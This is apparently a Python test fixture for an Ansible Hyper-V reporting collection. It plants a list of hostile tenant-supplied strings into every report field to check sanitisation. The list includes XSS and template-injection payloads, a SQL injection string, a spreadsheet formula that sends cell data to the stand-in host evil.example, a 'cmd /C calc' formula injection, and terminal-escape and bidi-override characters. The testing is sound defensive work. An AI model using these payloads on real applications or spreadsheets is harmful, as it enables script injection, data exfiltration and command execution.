# Copyright: hyperv.avma contributors
# GNU General Public License v3.0 or later (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What tenants might write, planted wherever a report takes text from them."""

from __future__ import annotations

from dataclasses import replace
from datetime import timedelta
from typing import Any

from ansible_collections.hyperv.avma.plugins.plugin_utils._avma.findings import finding
from ansible_collections.hyperv.avma.plugins.plugin_utils._report.building import build
from ansible_collections.hyperv.avma.plugins.plugin_utils._report.comparison import check
from ansible_collections.hyperv.avma.plugins.plugin_utils._report.document import Document, document_of
from ansible_collections.hyperv.avma.plugins.plugin_utils._report.material import GuestMaterial, HostMaterial, LedgerMaterial, Material
from ansible_collections.hyperv.avma.plugins.plugin_utils._report.tenancy import TenantRule

from .fleet import NOW, event, guest_info, host_info, kvp_info, settings, vm

PAYLOADS = (
    "<script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "</script><script>window.hit=1</script>",
    "<!--<script>",
    "]]><svg/onload=window.hit=1>",
    "\"'><b onmouseover=window.hit=1>",
    "javascript:window.hit=1",
    "{{ 1337*1337 }}{% raw %}{# #}${1337*1337}#{1337*1337}",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)",
    "\uff1d1+1",
    "  =1+1",
    "\t=1+1",
    "\x1b[31mred\x1b]0;title\x07",
    "a\u202eexe.cod\u202c",
    "zero\u200bwidth\u2066iso",
    "line\nbreak\r\n=1",
    'semi;colon,comma"quote',
    "&lt;b&gt;&amp;",
    "\ud800lone",
    "__proto__",
    "constructor",
    "'); DROP TABLE x;--",
    "\\u003cscript\\u003e",
    "A" * 5000,
)
# What no file of the report may hold of them.
FORBIDDEN = ("\x1b", "\x07", "\u202e", "\u202c", "\u200b", "\u2066", "\ud800")


def planted() -> Document:
    """A report in which each payload is a name, a tenant, a finding, a cluster, a message and an event; compared with a hostile earlier one."""
    hosts, guests, events = [], [], []
    for number, payload in enumerate(PAYLOADS):
        machine = vm(number, payload, guest={"Owner": payload, payload: payload, "avma": "yes"}, intrinsic={payload: payload})
        machine["guest"].update(fqdn=payload, name=payload)
        machine["findings"] = [finding("DATA_EXCHANGE_DISABLED", payload).as_dict(), _claimed(payload)]
        machine["state"] = payload
        info = host_info(f"hv{number}", cluster=payload)
        info["host"]["os"].update(release=payload, edition=payload)
        info["findings"] = [_claimed(payload)]
        logged = event(1, f"hv{number}", number, strings=(payload, "0x00000000", payload), time=NOW - timedelta(days=1))
        events.append({**event(2, f"hv{number}", number), "computer": payload, "vm_names": [payload], "vm_ids": []})
        hosts.append(HostMaterial(payload, info, kvp_info(f"hv{number}", machine), {"events": [logged], "complete": True}, tenant=None))
        told: dict[str, Any] = guest_info(number, payload, f"hv{number}")
        told["guest"]["licence"].update(channel=payload, status=payload, partial_product_key=payload)
        told["guest"]["licence"]["avma"].update(host=payload, iaid=payload)
        guests.append(GuestMaterial(payload, told if number % 2 else {"failed": True, "msg": payload}, vm_id=machine["id"]))
    material = Material(tuple(hosts), tuple(guests), LedgerMaterial(tuple(events), (), None))
    rules = settings(tenants=TenantRule("Owner"), title=PAYLOADS[0])
    earlier = document_of(build(material, rules))
    earlier["hosts"] = [{"name": payload, "ready": payload, "cluster": {payload: payload}} for payload in PAYLOADS]
    earlier["vms"] = [{"name": payload, "id": number, "standing": payload} for number, payload in enumerate(PAYLOADS)]
    earlier["generated"] = PAYLOADS[2]
    return document_of(build(replace(material, earlier=check(earlier)), rules))


def _claimed(payload: str) -> dict[str, Any]:
    return {"code": payload, "severity": "error", "object": payload, "cause": payload, "remedy": payload, "data": {}}
